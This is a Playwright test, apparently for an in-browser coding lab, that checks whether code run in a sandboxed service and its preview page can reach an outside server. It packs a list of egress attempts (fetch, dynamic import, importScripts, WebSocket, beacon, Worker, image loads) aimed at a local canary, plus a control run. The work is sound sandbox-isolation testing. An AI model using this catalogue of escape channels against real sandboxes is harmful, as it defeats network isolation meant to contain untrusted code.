import { expect, test } from '@playwright/test';
import { canary } from '../../tools/serve.ts';
import { get, run, send, seqNow, site, waitForEvent } from './lab.ts';

/** Every way out that a script of the web knows, aimed at one address; each ends, one way or another, before it returns. */
const attempts = (url: string): string => `
const target = ${JSON.stringify(url)};
const settle = (name, attempt) => new Promise((done) => { try { Promise.resolve(attempt(done)).then(done, done); } catch { done(); } });
const g = globalThis;
await settle('fetch', () => g.fetch(target + '/fetch'));
await settle('no-cors', () => g.fetch(target + '/no-cors', { mode: 'no-cors' }));
await settle('import', () => import(/* @vite-ignore */ target + '/import.js'));
await settle('importScripts', () => g.importScripts(target + '/importScripts.js'));
await settle('xhr', (done) => new Promise((end) => { const x = new g.XMLHttpRequest(); x.open('GET', target + '/xhr'); x.onloadend = end; x.send(); }));
await settle('socket', () => new Promise((end) => { const s = new g.WebSocket(target.replace('http', 'ws') + '/ws'); s.onclose = end; s.onerror = end; }));
await settle('events', () => new Promise((end) => { const s = new g.EventSource(target + '/events'); s.onerror = () => { s.close(); end(); }; s.onopen = () => { s.close(); end(); }; }));
await settle('beacon', () => g.navigator.sendBeacon(target + '/beacon'));
await settle('worker', () => new Promise((end) => { const w = new g.Worker(target + '/worker.js'); w.onerror = end; w.onmessage = end; }));
await settle('image', () => new Promise((end) => { const i = new g.Image(); i.onload = end; i.onerror = end; i.src = target + '/image'; }));
`;

test('code in a service and script in the preview reach no server outside, by any means that the page itself has', async ({
  page,
}) => {
  const outside = await canary();
  try {
    await page.goto(site('/en/lessons/ack/'));
    await run(page);
    const before = await seqNow(page);
    await send(page, {
      type: 'file.write',
      path: 'services/front/index.ts',
      content: `import { createServer } from 'node:http';
${attempts(outside.url)}
const page = '<!doctype html><title>hostile</title><img src="${outside.url}/markup"><script type="module">${attempts(outside.url).replaceAll('\n', ' ').replaceAll("'", '\\x27')} document.title = "tried"; document.body.append("tried everything");</' + 'script>';
createServer((request, response) => response.end(request.url === '/health' ? 'ok' : page)).listen(3000, () => console.log('tried everything'));
`,
    });
    await waitForEvent(page, before, { type: 'log', line: 'tried everything', service: 'front' });
    await expect(async () => expect((await get(page, '/')).status).toBe(200)).toPass();
    await page.locator('ruche-lab:visible [data-action=show-all]').click();
    await page.locator('[data-tab=preview]').click();
    await expect(page.frameLocator('iframe[data-preview]').getByText('tried everything')).toBeVisible({
      timeout: 40_000,
    });
    expect(outside.hits).toEqual([]);

    // The control: the same attempts from the page do reach it, so the test can fail.
    await page.evaluate(
      (code) => import(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))),
      attempts(outside.url),
    );
    expect(outside.hits.map((hit) => hit.split(' ')[1])).toEqual(
      expect.arrayContaining(['/fetch', '/import.js', '/ws', '/xhr']),
    );
  } finally {
    await outside.close();
  }
});
